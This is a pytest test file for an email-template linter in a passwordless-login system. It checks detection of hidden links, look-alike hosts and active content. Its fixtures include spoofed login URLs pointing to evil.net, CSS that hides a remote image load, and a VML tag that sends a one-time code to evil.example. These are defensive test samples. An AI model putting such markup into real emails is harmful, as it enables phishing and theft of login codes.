"""HTML as mail programs and browsers read it: what they act on, and what ordinary mails have."""

from typing import Any

import pytest
from selectolax.lexbor import LexborHTMLParser

from loginradius_passwordless.catalog import linting
from loginradius_passwordless.flows import trial
from loginradius_passwordless.models import EmailTemplate

pytestmark = pytest.mark.django_db(transaction=True)
LINK = "#Url#?vtoken=#GUID#"
GOOD = f'<a href="{LINK}">Sign in</a>'
PAGES = ["https://login.example.com/x"]


def rules(html: str = "", text: str = LINK, kind: str = "one_touch_login") -> list[str]:
    return [found.rule for found in linting.errors(kind, "email", {"subject": "S", "text": text, "html": html}, PAGES)]


@pytest.mark.parametrize(
    "html",
    {
        "split by an editor": "<p>Token: #<span>GUID</span>#</p>",
        "written as entities": '<a href="&#35;Url&#35;?vtoken=&#35;GUID&#35;">Sign in</a>',
        "only for Outlook": f"<!--[if mso]>{GOOD}<![endif]--><p>Hello</p>",
        "only the title": f"<head><title>{LINK}</title></head><p>Hello</p>",
        "not displayed": f'<div style="display:none">{GOOD}</div><p>Hello</p>',
    }.items(),
    ids=lambda each: each[0],
)
def test_a_link_that_readers_do_not_get_is_missing(html):
    assert "missing-placeholder" in rules(html[1])


@pytest.mark.parametrize(
    "html",
    [
        """<p style='quotes:"/*";background:url(https://evil.example/p.png);quotes:"*/"'>x</p>""",
        """<style>i:after{content:"/*"} p{background:url(https://evil.example/p.png)} b:after{content:"*/"}</style>""",
    ],
)
def test_a_comment_in_a_string_of_a_style_is_none(html):
    assert "active-content" in rules(html + GOOD)


@pytest.mark.parametrize(
    "address",
    [
        r"https:\\login.example.com@evil.net/",
        "https:/login.example.com@evil.net/",
        "https:login.example.com.evil.net/",
        "https:///login.example.com.evil.net/",
        "https://login%2eexample%2ecom.evil.net/",
        "https://login.exam\u00adple.com.evil.net/",
        "https://login.example.com\uff0eevil.net/",
        "https://login.example.com\u3002evil.net/",
    ],
)
def test_a_host_is_what_browsers_read(address):
    assert "look-alike-host" in rules(f'<a href="{address}">x</a>{GOOD}')


def test_a_link_that_follows_a_colon_is_looked_at():
    assert "look-alike-host" in rules(text=f"{LINK} Help:https://login.example.com@evil.net/")


def test_a_code_in_an_address_of_vml_is_refused():
    html = '<!--[if mso]><v:imagedata o:href="https://evil.example/?c=#OTP#"/><![endif]--><p>#OTP#</p>'
    assert rules(html, "#OTP#", "passwordless_login")


USUAL = {
    "button of VML": (
        '<!--[if mso]><v:roundrect xmlns:v="urn:schemas-microsoft-com:vml" xmlns:w="urn:schemas-microsoft-com:office:'
        f'word" href="{LINK}" style="height:40px;v-text-anchor:middle;width:200px;" arcsize="10%" stroke="f" '
        'fillcolor="#1f4fd8"><w:anchorlock/><center style="color:#fff;">Sign in</center></v:roundrect><![endif]-->'
        f"<!--[if !mso]><!-- -->{GOOD}<!-- <![endif]-->"
    ),
    "head of Outlook": (
        "<head><!--[if gte mso 9]><xml><o:OfficeDocumentSettings><o:AllowPNG/><o:PixelsPerInch>96</o:PixelsPerInch>"
        f"</o:OfficeDocumentSettings></xml><![endif]--></head>{GOOD}"
    ),
    "head of MJML": (
        "<head><!--[if mso]><noscript><xml><o:OfficeDocumentSettings><o:AllowPNG/></o:OfficeDocumentSettings></xml>"
        f"</noscript><![endif]--></head>{GOOD}"
    ),
    "blocks of HTML 5": f"<header>shop.example</header><section>{LINK}</section>",
}


@pytest.mark.parametrize("html", USUAL.values(), ids=USUAL)
def test_what_mails_usually_have_can_be_saved(html):
    assert rules(html) == []


@pytest.mark.parametrize("text", [f"次のリンク：{LINK}", f"「{LINK}」", f"„{LINK}“", f"Link:{LINK}"])
def test_a_link_may_stand_after_a_mark_without_a_blank(text):
    assert rules(text=text) == []


@pytest.mark.parametrize("part", ["text", "voice_text"])
def test_an_sms_and_a_call_are_not_thousands(part):
    fields = {"text": "#OTP#", part: "#OTP# " + "x" * 100_000}
    assert [found.rule for found in linting.errors("one_touch_login", "sms", fields)]


@pytest.mark.parametrize("before", ["<title><body></title>", "<style>/*<body>*/</style>"])
def test_a_test_mail_says_so_where_readers_see_it(before):
    row = trial.marked(
        EmailTemplate(kind="welcome", subject="S", text="x", html=f"{before}<body><p>x</p></body>"), "email"
    )
    body: Any = LexborHTMLParser(row.html).body
    assert "This is a test" in body.text()


def test_no_style_of_a_template_hides_that_it_is_a_test():
    html = "<style>div{display:none!important}</style><body><p>x</p></body>"
    row = trial.marked(EmailTemplate(kind="welcome", subject="S", text="x", html=html), "email")
    banner: Any = LexborHTMLParser(row.html).css_first("body > div")
    assert "display:block!important" in banner.attributes["style"].replace(" ", "")
